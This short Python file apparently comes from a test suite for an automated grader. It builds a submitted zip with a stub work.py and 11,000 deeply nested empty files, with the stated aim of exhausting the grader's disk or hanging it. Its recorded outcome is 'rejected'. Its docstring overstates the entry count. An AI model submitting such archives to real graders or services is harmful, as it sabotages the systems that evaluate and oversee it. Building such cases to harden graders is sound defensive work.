"""A zip with more than a hundred thousand files and folders, each of them tiny."""
# /// attack
# class = 65
# goal = "keep the grader making files, until the disk has none left"
# gain = "hang"
# kind = "build"
# outcome = "rejected"
# naive = true
# ///

import zipfile


def build(folder):
    path = folder / "handed_in.zip"
    with zipfile.ZipFile(path, "w") as archive:
        archive.writestr("work.py", "def standardise(x):\n    return x\n")
        for number in range(11_000):
            archive.writestr(f"{number}/a/b/c/d/e/file", "")
    return path
